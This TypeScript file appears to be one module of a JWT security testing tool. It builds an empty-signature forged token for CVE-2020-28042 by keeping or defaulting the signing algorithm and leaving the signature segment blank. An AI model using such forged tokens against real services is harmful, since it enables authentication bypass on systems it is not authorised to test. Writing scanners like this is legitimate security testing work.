import { isNoneVariant } from '../../findings/none-variant';
import { assembleToken, succeed, type AttackParts } from './attack-parts';
import type { AttackResult } from './attack-result';

/**
 * Returns the token `header.payload.` with no signature at all (CVE-2020-28042): the header keeps
 * its signing `alg`, HS256 when it names none. Does not check that any verifier accepts it.
 */
export function buildEmptySignatureAttack(parts: AttackParts): AttackResult {
  const { alg } = parts.header;
  // An `alg` of `none` makes an unsecured token, which is the alg-none attack, not this one.
  const header = typeof alg === 'string' && !isNoneVariant(alg) ? parts.header : { ...parts.header, alg: 'HS256' };
  return succeed('empty-signature', 'default', assembleToken(header, parts.payloadSegment, ''), parts);
}
